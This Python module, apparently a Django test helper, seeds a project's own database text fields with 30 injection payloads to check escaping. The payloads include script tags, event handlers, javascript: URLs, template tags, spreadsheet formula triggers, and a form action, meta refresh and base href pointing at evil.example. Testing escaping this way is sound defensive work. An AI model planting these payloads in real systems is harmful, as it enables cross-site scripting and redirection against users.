"""What people might type to have a page, a sheet or a paper do something: 30 payloads.

Whatever of them becomes an element or an attribute is called zx…, or is a handler.
"""

from django.apps import apps
from django.db import IntegrityError, models, transaction

PAYLOADS = [
    "<zx1>",
    "<script>zx()</script>",
    "</script><zx2>",
    '"><zx3 a="',
    "'><zx4 a='",
    '" zx5="1',
    "' zx6='1",
    '" onmouseover="zx()',
    "' onfocus='zx()' autofocus='",
    "<img src=x onerror=zx()>",
    "<svg onload=zx()>",
    "<svg><zx7></svg>",
    '<iframe srcdoc="<zx8>"></iframe>',
    "</textarea><zx9>",
    "</title><zx10>",
    "</style><zx11>",
    "</option></select><zx12>",
    "--><zx13>",
    "]]><zx14>",
    "<math><mtext><zx15>",
    '<a href="javascript:zx()">zx</a>',
    "javascript:zx()",
    '<form action="https://evil.example/zx"><button>zx',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/zx">',
    '<link rel="stylesheet" href="https://evil.example/zx.css">',
    '<base href="https://evil.example/zx/">',
    "&lt;zx16&gt;&#60;zx17&#62;",
    "{{ 7|add:1330 }}{% debug %}",
    "\u2028<zx18>\u2029",
    "<<zx19//<zx20>>",
]
# What begins a formula in a sheet; the rest of the text is a payload.
TRIGGERS = ["=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", "'="]  # noqa: RUF001
EVALUATED = "1337"  # what a template would make of the payload for it

_OURS = {"objectives", "indicators", "reports"}
# What the product writes itself, or makes part of an address.
_KEPT = {
    *("sha256", "media_type", "password", "username", "link", "file", "file_format"),
    *("history_type", "history_change_reason", "source", "key", "code", "scorecard"),
    *("field", "what", "role"),
}


def text_fields(model: type[models.Model]) -> list[models.Field]:
    """Return the fields of a model into which people type."""
    return [
        one
        for one in model._meta.fields
        if isinstance(one, models.CharField | models.TextField)
        and not one.choices
        and (one.name not in _KEPT or (model.__name__, one.name) in _TYPED)
    ]


# Keys that people type and that no address of the matrix leads by.
_TYPED = {("Indicator", "code"), ("Indicator", "source"), ("Change", "source")}


def poison() -> int:
    """Put payloads into every text of every row; return how many were put.

    Straight into the tables: what a form would refuse may come from a restored copy.
    """
    count = 0
    for model in apps.get_models(include_auto_created=True):
        if model._meta.app_label in _OURS:
            for pk in model._default_manager.values_list("pk", flat=True):
                for one in text_fields(model):
                    count += _put(model, pk, one, count)
    return count


def _put(model: type[models.Model], pk: int, field: models.Field, turn: int) -> bool:
    """Put a payload into a text; False: the table's own rules do not let it in."""
    told = {field.name: payload_text(turn, field.max_length)}
    try:
        with transaction.atomic():
            model._base_manager.filter(pk=pk).update(**told)
    except IntegrityError:
        return False
    return True


def payload_text(turn: int, longest: int | None) -> str:
    """Return a text of payloads, of which each turn begins with another one."""
    whole = TRIGGERS[turn % len(TRIGGERS)] if turn % 2 else ""
    places = range(turn, turn + len(PAYLOADS))
    for payload in (PAYLOADS[place % len(PAYLOADS)] for place in places):
        if len(whole) + len(payload) + 1 > (longest or 1600):
            break
        whole += f"{payload} "
    return whole or "<zx>"
